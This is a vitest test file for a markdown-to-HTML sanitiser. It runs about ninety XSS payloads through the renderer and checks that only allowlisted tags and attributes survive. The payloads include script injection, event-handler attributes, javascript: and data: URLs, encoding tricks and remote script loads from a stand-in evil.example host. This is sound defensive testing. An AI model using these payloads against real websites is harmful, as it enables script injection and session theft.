import { parseHTML } from "linkedom";
import { describe, expect, it } from "vitest";
import { renderMarkdown, renderTrustedPage } from "#app/domain/text/markdown.server.ts";
import { MarkdownBudget, WRITTEN_TEXT } from "#app/domain/text/markdown-budget.ts";
import { parseMarkdown } from "#app/domain/text/markdown-parser.ts";

function html(source: string, headingOffset?: number): string {
  const rendered = renderMarkdown(source, headingOffset === undefined ? {} : { headingOffset });
  if (!rendered.ok) throw new Error(`refused: ${rendered.reason}`);
  return rendered.html.trim();
}

const XSS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  "<img src='x' onerror='alert(1)'",
  "<svg/onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate xlink:href=#a attributeName=href values=javascript:alert(1) /><a id=a>x</a></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<iframe src='javascript:alert(1)'></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'>",
  "<object data='data:text/html,<script>alert(1)</script>'>",
  "<embed src='javascript:alert(1)'>",
  "<form action='javascript:alert(1)'><button>x</button></form>",
  "<a href='javascript:alert(1)'>x</a>",
  "<base href='//evil.example/'>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<link rel=stylesheet href='//evil.example/x.css'>",
  "<style>@import '//evil.example/x.css'</style>",
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<body onload=alert(1)>",
  "<template><img src=x onerror=alert(1)></template>",
  "<!--><script>alert(1)</script>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml version='1.0'?><script>alert(1)</script>",
  "<textarea></textarea><script>alert(1)</script>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](java&Tab;script:alert(1))",
  "[x](java&NewLine;script:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](&#x6A;avascript&colon;alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x]( javascript:alert(1))",
  "[x](<javascript:alert(1)>)",
  "[x](<java\\\nscript:alert(1)>)",
  "[x](javascript%3Aalert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](data&colon;text/html,<script>alert(1)</script>)",
  "[x](feed:javascript:alert(1))",
  "[x](blob:https://example.org/1)",
  "[x](file:///etc/passwd)",
  "[x](//evil.example/x)",
  "[x](/&#47;evil.example/x)",
  "[x](/&#92;evil.example/x)",
  "[x](/\t/evil.example/x)",
  '[x](https://example.org/"onmouseover="alert(1))',
  "[x](https://example.org 'a\" onmouseover=\"alert(1)')",
  '[x](https://example.org "><script>alert(1)</script>")',
  "[x][r]\n\n[r]: javascript:alert(1)",
  "[r]\n\n[r]: <data:text/html,x> 'title'",
  "[x]\n\n[x]: https://example.org/'onclick='alert(1)",
  "<javascript:alert(1)>",
  "<JAVASCRIPT:alert(1)>",
  "<vbscript:x>",
  "<data:text/html,x>",
  '<https://example.org/"onclick=alert(1)>',
  'https://example.org/"onmouseover=alert(1)//',
  "https://example.org/'><script>alert(1)</script>",
  "www.example.org/`onclick=alert(1)`",
  "![x](javascript:alert(1))",
  '![x"onerror="alert(1)](https://example.org/x.png)',
  "![<script>alert(1)</script>](x)",
  "[![x](javascript:alert(1))](javascript:alert(2))",
  '```"><script>alert(1)</script>\ncode\n```',
  "```html onload=alert(1)\n<script>alert(1)</script>\n```",
  "~~~<img src=x onerror=alert(1)>\n~~~",
  "`<script>alert(1)</script>`",
  "    <script>alert(1)</script>",
  "# <img src=x onerror=alert(1)>",
  "|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|",
  '|a|\n|:-" onclick="alert(1)|',
  "- [x] <svg onload=alert(1)>",
  "> <script>\n> alert(1)\n> </script>",
  "**<b onclick=alert(1)>x</b>**",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "\\<script>alert(1)\\</script>",
  "<scr\0ipt>alert(1)</scr\0ipt>",
  "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
  "<div\nonclick=alert(1)>\n\nx\n\n</div>",
  '<a href="https://example.org" style="position:fixed;inset:0">x</a>',
  "<p class=banner id=__next name=cookie>x</p>",
];

const ALLOWED: Record<string, string[]> = {
  ...Object.fromEntries(
    ["h2", "h3", "h4", "h5", "h6", "p", "blockquote", "ul", "li", "hr", "br", "pre", "code", "strong", "em", "del"].map(
      (tag) => [tag, []],
    ),
  ),
  ...Object.fromEntries(["table", "thead", "tbody", "tr", "td"].map((tag) => [tag, []])),
  ol: ["start"],
  th: ["scope"],
  a: ["href", "rel"],
};

/** Everything in the HTML that is not on the list, read as a browser reads it. */
function foreign(markup: string): string[] {
  const { document } = parseHTML(`<!doctype html><html><body>${markup}</body></html>`);
  const found: string[] = [];
  for (const element of document.body.querySelectorAll("*")) {
    const tag = element.tagName.toLowerCase();
    const allowed = Object.hasOwn(ALLOWED, tag) ? ALLOWED[tag] : undefined;
    if (!allowed) found.push(`<${tag}>`);
    for (const { name, value } of element.attributes) {
      if (!allowed?.includes(name)) found.push(`${tag} ${name}`);
      if (name === "href" && !/^(?:https?:\/\/[a-z]|mailto:[^,]+$|\/(?![/\\]))/i.test(value))
        found.push(`href ${value}`);
      if (name === "rel" && value !== "noopener noreferrer") found.push(`rel ${value}`);
    }
  }
  return found;
}

describe("attacks", () => {
  it("would notice what must not be there", () => {
    expect(foreign("<p onclick=x>a</p><script>1</script><a href='//x'>b</a><a href='javascript:1'>c</a>")).toEqual([
      "p onclick",
      "<script>",
      "href //x",
      "href javascript:1",
    ]);
  });

  it.each(XSS)("%j leaves nothing but allowed elements and attributes", (payload) => {
    for (const source of [payload, `text ${payload} text`, `- ${payload}`, `> ${payload}`, `[a](/b)\n${payload}`]) {
      expect(foreign(html(source))).toEqual([]);
    }
  });

  it.each(XSS.filter((payload) => !payload.includes("/&#")))(
    "%j is harmless even before it is sanitised",
    (payload) => {
      expect(foreign(parseMarkdown(payload, new MarkdownBudget(WRITTEN_TEXT), 2))).toEqual([]);
    },
  );

  it("is safe when everything is put together", () => {
    expect(foreign(html(XSS.join("\n\n")))).toEqual([]);
    expect(foreign(renderTrustedPage(XSS.join("\n\n")))).toEqual([]);
  });
});
